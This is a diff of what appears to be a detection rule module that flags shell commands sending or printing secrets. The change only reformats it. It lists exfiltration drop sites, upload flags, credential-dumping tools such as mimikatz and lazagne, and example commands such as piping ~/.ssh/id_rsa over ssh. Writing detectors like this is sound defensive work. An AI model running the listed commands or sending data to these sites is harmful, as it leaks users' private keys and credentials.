@@ -18,14 +18,30 @@ _SECRET_VARIABLE = re.compile(
     r"(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_?KEY|ACCESS_?KEY|CREDENTIAL)", re.I
 )
 _DROP_SITES = re.compile(
-    r"(?:transfer\.sh|0x0\.st|pastebin\.com|paste\.ee|ix\.io|termbin\.com|file\.io|bashupload\.com|webhook\.site|"
-    r"requestbin|pipedream\.net|oshi\.at|temp\.sh|hastebin|dpaste|sprunge\.us|clbin\.com|burpcollaborator|"
-    r"interact\.sh|oast\.|discord(?:app)?\.com/api/webhooks|api\.telegram\.org|ngrok|gofile\.io|catbox\.moe|anonfiles)"
+    r"(?:transfer\.sh|0x0\.st|pastebin\.com|paste\.ee|ix\.io|termbin\.com|file\.io|"
+    r"bashupload\.com|webhook\.site|"
+    r"requestbin|pipedream\.net|oshi\.at|temp\.sh|hastebin|dpaste|sprunge\.us|clbin\.com|"
+    r"burpcollaborator|"
+    r"interact\.sh|oast\.|discord(?:app)?\.com/api/webhooks|api\.telegram\.org|ngrok|gofile\.io|"
+    r"catbox\.moe|anonfiles)"
 )
 _DATA = (
-    "-d", "--data", "--data-raw", "--data-binary", "--data-ascii", "--data-urlencode", "--json", "-F", "--form",
-    "-T", "--upload-file", "--post-data", "--post-file", "--body-data", "--body-file",
-)  # fmt: skip
+    "-d",
+    "--data",
+    "--data-raw",
+    "--data-binary",
+    "--data-ascii",
+    "--data-urlencode",
+    "--json",
+    "-F",
+    "--form",
+    "-T",
+    "--upload-file",
+    "--post-data",
+    "--post-file",
+    "--body-data",
+    "--body-file",
+)
 
 
 def _sends_secret(command: Command) -> bool:
@@ -70,8 +86,11 @@ def _prints_keys(command: Command) -> bool:
         return command.has("--export-secret-keys", "--export-secret-subkeys", "--export-secret-key")
     if name == "security":
         return texts[:1] and texts[0] in (  # type: ignore[return-value]
-            "find-generic-password", "find-internet-password", "dump-keychain", "export",
-        )  # fmt: skip
+            "find-generic-password",
+            "find-internet-password",
+            "dump-keychain",
+            "export",
+        )
     if name == "git":
         return (texts[:1] == ["credential"] and "fill" in texts) or (
             texts[:1] == ["config"]
@@ -176,8 +195,11 @@ RULES = (
     Rule(
         "secrets.sent-on",
         "It hands credentials to a program that sends them on.",
-        programs="mail mutt sendmail ssh scp sftp rclone xclip pbcopy gh slack nc ncat netcat socat telnet ftp "
-        "openssl gpg",
+        programs=(
+            "mail mutt sendmail ssh scp sftp rclone xclip pbcopy gh slack nc ncat netcat socat "
+            "telnet ftp "
+            "openssl gpg"
+        ),
         when=_copies_away,
         matches=(
             "cat ~/.ssh/id_rsa | ssh host 'cat > k'",
@@ -189,8 +211,11 @@ RULES = (
     Rule(
         "secrets.printed",
         "It prints a secret out of a credential store.",
-        programs="gpg security git gh gcloud az aws kubectl vault op pass secret-tool cmdkey mimikatz lazagne "
-        "unshadow",
+        programs=(
+            "gpg security git gh gcloud az aws kubectl vault op pass secret-tool cmdkey mimikatz "
+            "lazagne "
+            "unshadow"
+        ),
         when=_prints_keys,
         matches=(
             "gpg --export-secret-keys",
